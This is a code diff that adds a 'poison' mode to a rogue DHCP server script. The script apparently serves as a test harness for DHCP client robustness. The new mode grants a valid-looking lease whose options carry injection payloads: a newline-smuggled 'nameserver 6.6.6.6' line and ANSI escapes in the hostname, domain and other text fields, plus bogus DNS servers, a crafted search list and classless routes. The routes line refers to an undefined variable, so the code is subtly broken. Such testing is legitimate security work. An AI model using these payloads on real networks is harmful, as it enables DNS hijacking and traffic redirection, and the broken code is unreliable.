@@ -1,6 +1,6 @@
 """An attacker on the cable: answers each DHCPDISCOVER with lies, or shouts lies at a client that is bound.
 
-usage: dhcp-attacker.py LINK answer | serve | shout CLIENT_MAC CLIENT_ADDRESS | arp ADDRESS
+usage: dhcp-attacker.py LINK answer | serve | poison | shout CLIENT_MAC CLIENT_ADDRESS | arp ADDRESS
 Prints `ready`, then `lied N` for each round.
 """
 
@@ -86,11 +86,25 @@ def answer():
         print("lied", rounds)
 
 
-def serve():
+def serve(extra=b""):
     """Tells no lies: shows that the frames of the others would be taken but for what is wrong with them."""
     for kind, xid, mac in questions():
         reply = OFFER if kind == DISCOVER else ACK
-        wire.send(frame(xid, mac, socket.inet_aton("10.1.0.77"), usual(reply) + b"\xff"))
+        wire.send(frame(xid, mac, socket.inet_aton("10.1.0.77"), usual(reply) + extra + b"\xff"))
+
+
+def poison():
+    """Grants a lease that is right but for options meant to do harm further on."""
+    line = b"x\nnameserver 6.6.6.6\n"
+    bad_text = b"\xff\xfe\x00\x1b[31m" + line
+    servers = b"".join(map(socket.inet_aton, ("127.0.0.1", "0.0.0.0", "255.255.255.255", "10.1.0.53")))
+    search = bytes([len(line)]) + line + b"\0\x03lan\0\xc0\x00"
+    routes = b"\x20\x0a\x4d\x00\x01" + server + b"\x21\x00"
+    serve(
+        option(6, servers) + option(12, bad_text) + option(15, bad_text) + option(26, b"\0\x44") + option(42, b"\0")
+        + option(43, bytes(range(256))[:200]) + option(114, bad_text) + option(119, search) + option(121, routes)
+        + option(252, bad_text) + option(28, b"\0\0\0\0") + option(58, b"\xff" * 4) + option(59, b"\0" * 4)
+    )
 
 
 def shout(mac, address):
@@ -124,4 +138,4 @@ def arp(address):
 
 
 print("ready", flush=True)
-{"answer": answer, "serve": serve, "shout": shout, "arp": arp}[mode](*sys.argv[3:])
+{"answer": answer, "serve": serve, "poison": poison, "shout": shout, "arp": arp}[mode](*sys.argv[3:])
